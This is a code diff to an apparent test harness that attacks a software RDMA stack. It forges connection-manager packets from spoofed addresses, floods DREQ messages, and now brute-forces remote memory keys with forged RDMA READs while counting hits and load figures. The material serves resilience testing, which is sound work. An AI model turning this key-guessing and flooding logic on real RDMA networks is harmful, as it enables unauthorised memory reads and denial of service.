@@ -1,18 +1,31 @@
 import { createSocket, type Socket } from 'node:dgram';
 import { Random } from '../../src/engine/index.js';
-import { SoftwareProvider } from '../../src/providers/software/index.js';
-import { Access, waitForCompletions } from '../../src/verbs/index.js';
-import { emitCm, isRefusal, MAD_BYTES, parseCm } from '../../src/wire/index.js';
-import { serve } from './child.js';
+import { strangersQpn } from '../../src/providers/software/testing/stranger.js';
+import {
+  DREQ_PRIVATE_DATA_BYTES,
+  emitCm,
+  isRefusal,
+  MAD_BYTES,
+  OPCODE,
+  parseCm,
+  type Rep,
+} from '../../src/wire/index.js';
+import { processorMs, serve } from './child.js';
 import { AROUND_BYTES, Forger } from './packets.js';
-import { partOf, type Schedule } from './schedule.js';
-import { OWN_BYTES, readRegions, SERVICE } from './victim.js';
+import { type Part, partOf, type Schedule } from './schedule.js';
+import { OWN_BYTES, readRegions } from './victim.js';
 
 const PORT = 4791;
 /** A sender that was held up does not catch up with more than this. */
 const MOST_AT_ONCE = 512;
 const UD_HEAD_BYTES = 20;
 const LATE_MS = 700;
+/** Where a BTH has its queue pair, and where the syndrome of an acknowledgement stands; NAKs are from this on. */
+const QPN_AT = 4;
+const SYNDROME_AT = 12;
+const NAK = 0x60;
+/** Bytes that a key is tried for. */
+const KEY_BYTES = 64;
 /** REQ, RTU, READ and DREQ. */
 const PACKETS_PER_TRY = 4;
 
@@ -53,6 +66,8 @@ export interface AttackOrder {
 export interface AttackFigures {
   packets: number;
   sentBytes: number;
+  /** Processor time that the attacker took while it attacked the victim. */
+  processorMs: number;
   /** Bytes that came to addresses which never proved anything, and bytes that were sent from them. */
   unprovenAnsweredBytes: number;
   unprovenSentBytes: number;
@@ -82,11 +97,22 @@ class Attack {
   private readonly order: AttackOrder;
   private readonly random: Random;
   private readonly figures: AttackFigures = {
-    ...{ packets: 0, sentBytes: 0, unprovenAnsweredBytes: 0, unprovenSentBytes: 0, worstFactor: 0 },
+    ...{
+      packets: 0,
+      sentBytes: 0,
+      processorMs: 0,
+      unprovenAnsweredBytes: 0,
+      unprovenSentBytes: 0,
+      worstFactor: 0,
+    },
     ...{ connections: 0, keys: 0, hits: 0 },
   };
   private readonly mouths: Mouth[] = [];
   private id = 1;
+  /** By target: a key that was good once. */
+  private readonly oldKeys = new Map<string, number>();
+  /** By target and own queue pair: connections on which a key is being tried. */
+  private readonly tried = new Map<string, Rep>();
 
   constructor(order: AttackOrder) {
     this.order = order;
@@ -137,37 +163,49 @@ class Attack {
         await this.shoot(own.slice(0, 4), PORT, (forger) => forger.req(this.id++), true);
         break;
       case 'keys':
-        await this.guessKeys();
+        await this.shoot(own.slice(4), PORT, (forger) => forger.req(this.id++), true, PACKETS_PER_TRY);
         break;
     }
     return this.figures;
   }
 
-  /** Sends packets at a rate from these addresses; `answers` takes part in what the victim begins. */
+  /**
+   * Sends packets at a rate from these addresses; `answers` takes part in what the victim begins, with so many packets
+   * for each that was sent as `packetsPerShot` says.
+   */
   private async shoot(
     addresses: readonly string[],
     port: number,
     packet: (forger: Forger) => Uint8Array,
     answers: boolean,
+    packetsPerShot = 1,
   ): Promise<void> {
-    const { schedule, packetsPerSecond, mostPackets } = this.order;
+    const { schedule, mostPackets } = this.order;
+    const shotsPerSecond = this.order.packetsPerSecond / packetsPerShot;
     for (const address of addresses) this.mouths.push(await this.open(address, port, answers));
     const { figures } = this;
     let shot = 0;
     let due = 0;
+    let last: Part = 'before';
+    let usedMs = 0;
     for (let lastMs = Date.now(); figures.packets < mostPackets; ) {
       const nowMs = Date.now();
       const part = partOf(schedule, nowMs);
+      if (part !== last) {
+        if (last === 'attack') figures.processorMs += processorMs() - usedMs;
+        usedMs = processorMs();
+        last = part;
+      }
       if (part === 'over') break;
       const aims = part === 'decoy' || part === 'attack';
-      due = aims ? Math.min(due + ((nowMs - lastMs) / 1000) * packetsPerSecond, MOST_AT_ONCE) : 0;
+      due = aims ? Math.min(due + ((nowMs - lastMs) / 1000) * shotsPerSecond, MOST_AT_ONCE) : 0;
       lastMs = nowMs;
       for (; due >= 1; due--) {
         const mouth = this.mouths[shot++ % this.mouths.length];
         const forger = part === 'attack' ? mouth.victim : mouth.decoy;
         const bytes = packet(forger);
         if (part === 'attack') {
-          figures.packets++;
+          figures.packets += packetsPerShot;
           figures.sentBytes += AROUND_BYTES + bytes.length;
           mouth.sentBytes += AROUND_BYTES + bytes.length;
         }
@@ -206,6 +244,10 @@ class Attack {
 
   /** Takes part: answers questions, and at random goes on with, rejects or ends what the victim replied. */
   private answer(socket: Socket, forger: Forger, bytes: Uint8Array): void {
+    if (this.order.kind === 'keys' && bytes[0] !== OPCODE.UD_SEND_ONLY) {
+      this.keyTried(socket, forger, bytes);
+      return;
+    }
     const message = parseCm(bytes, UD_HEAD_BYTES, UD_HEAD_BYTES + MAD_BYTES);
     if (isRefusal(message)) return;
     const base = {
@@ -225,6 +267,10 @@ class Attack {
       this.figures.connections++;
       reply(rtu);
     }
+    if (this.order.kind === 'keys') {
+      reply(rtu);
+      this.tryKey(socket, forger, message);
+    }
     if (this.order.kind !== 'DREQ') return;
     // In every state: before the third message, after it, and again when the end was heard of.
     const dreq = {
@@ -240,60 +286,40 @@ class Attack {
     for (let times = 1 + this.random.nextInt(3); times > 0; times--) reply(dreq);
   }
 
-  /** Whom to attack now; null when it is over. */
-  private async nextTarget(): Promise<string | null> {
-    const { schedule, victim, decoy } = this.order;
-    for (;;) {
-      const part = partOf(schedule, Date.now());
-      if (part === 'over') return null;
-      if (part === 'attack') return victim;
-      if (part === 'decoy') return decoy;
-      await sleep(5);
-    }
+  /** The third message, and a READ with an old key or a drawn one at the place that the reply told of. */
+  private tryKey(socket: Socket, forger: Forger, rep: Rep): void {
+    const { own: given, shared } = readRegions(rep.privateData);
+    const old = this.oldKeys.get(forger.target);
+    if (old === undefined) this.oldKeys.set(forger.target, given.rkey);
+    let rkey = this.random.nextInt(2) === 0 ? this.random.nextUint32() : (old ?? 0);
+    if (rkey === given.rkey || rkey === shared.rkey) rkey = (rkey ^ 1) >>> 0;
+    const remoteAddr = given.remoteAddr + this.random.nextInt(OWN_BYTES - KEY_BYTES);
+    const read = forger.readAt(rep.localQpn, rep.startingPsn, remoteAddr, rkey, KEY_BYTES);
+    this.tried.set(forger.target + strangersQpn(rep.remoteCommunicationId), rep);
+    socket.send(read, PORT, forger.target, () => {});
   }
 
-  /** Connects, tries an old key and a drawn one at the place that it was told of, and is disconnected for it. */
-  private async guessKeys(): Promise<void> {
-    const { own, victim } = this.order;
-    // Without spinning: what the attacker takes from the machine is not what is measured.
-    const context = await new SoftwareProvider({ socket: { spinUs: 0 } }).open(own[4]);
-    const manager = context.createConnectionManager();
-    const cq = context.createCq({ cqe: 16 });
-    const pd = context.allocPd();
-    const memory = pd.regMr(new Uint8Array(64), Access.LOCAL_WRITE);
-    let tries = 0;
-    const old = new Map<string, number>();
-    const everyMs = (1000 * PACKETS_PER_TRY) / this.order.packetsPerSecond;
-    let dueMs = 0;
-    for (let target = await this.nextTarget(); target !== null; target = await this.nextTarget()) {
-      dueMs = Math.max(dueMs + everyMs, Date.now() - everyMs);
-      if (dueMs > Date.now()) await sleep(dueMs - Date.now());
-      const cap = { maxSendWr: 4, maxRecvWr: 1, maxSendSge: 1, maxRecvSge: 1 };
-      const qp = pd.createQp({ qpType: 'RC', sendCq: cq, recvCq: cq, cap });
-      try {
-        const connection = await manager.connect(qp, { address: target, port: SERVICE, initiatorDepth: 4 });
-        const { own: given, shared } = readRegions(connection.privateData);
-        let rkey: number = tries++ % 2 === 0 ? this.random.nextUint32() : (old.get(target) ?? 0);
-        if (rkey === given.rkey || rkey === shared.rkey) rkey = (rkey ^ 1) >>> 0;
-        if (!old.has(target)) old.set(target, given.rkey);
-        const remoteAddr = given.remoteAddr + this.random.nextInt(OWN_BYTES - 64);
-        const sgList = [{ addr: memory.addr, length: 64, lkey: memory.lkey }];
-        qp.postSend({ opcode: 'RDMA_READ', sgList, remoteAddr, rkey, signaled: true });
-        const [{ status }] = await waitForCompletions(cq, { timeoutNs: 10e9 });
-        if (target === victim) {
-          this.figures.connections++;
-          this.figures.packets += PACKETS_PER_TRY;
-          this.figures.keys++;
-          if (status === 'SUCCESS') this.figures.hits++;
-        }
-        await connection.disconnect();
-      } catch {
-        await sleep(1);
-      }
-      qp.destroy();
+  /** What came of a key; the connection that it was tried on is ended. */
+  private keyTried(socket: Socket, forger: Forger, bytes: Uint8Array): void {
+    const view = new DataView(bytes.buffer, bytes.byteOffset);
+    const name = forger.target + (view.getUint32(QPN_AT) & 0xffffff);
+    const rep = this.tried.get(name);
+    if (rep === undefined) return;
+    this.tried.delete(name);
+    if (forger.target === this.order.victim) {
+      this.figures.connections++;
+      this.figures.keys++;
+      if (bytes[0] !== OPCODE.RC_ACKNOWLEDGE || bytes[SYNDROME_AT] < NAK) this.figures.hits++;
     }
-    manager.close();
-    await context.close();
+    const ids = {
+      transactionId: BigInt(rep.remoteCommunicationId),
+      localCommunicationId: rep.remoteCommunicationId,
+      remoteCommunicationId: rep.localCommunicationId,
+    };
+    const payload = new Uint8Array(MAD_BYTES);
+    const privateData = new Uint8Array(DREQ_PRIVATE_DATA_BYTES);
+    emitCm({ ...ids, kind: 'dreq', remoteQpnOrEecn: rep.localQpn, privateData }, payload, 0);
+    socket.send(forger.management(payload), PORT, forger.target, () => {});
   }
 }
 
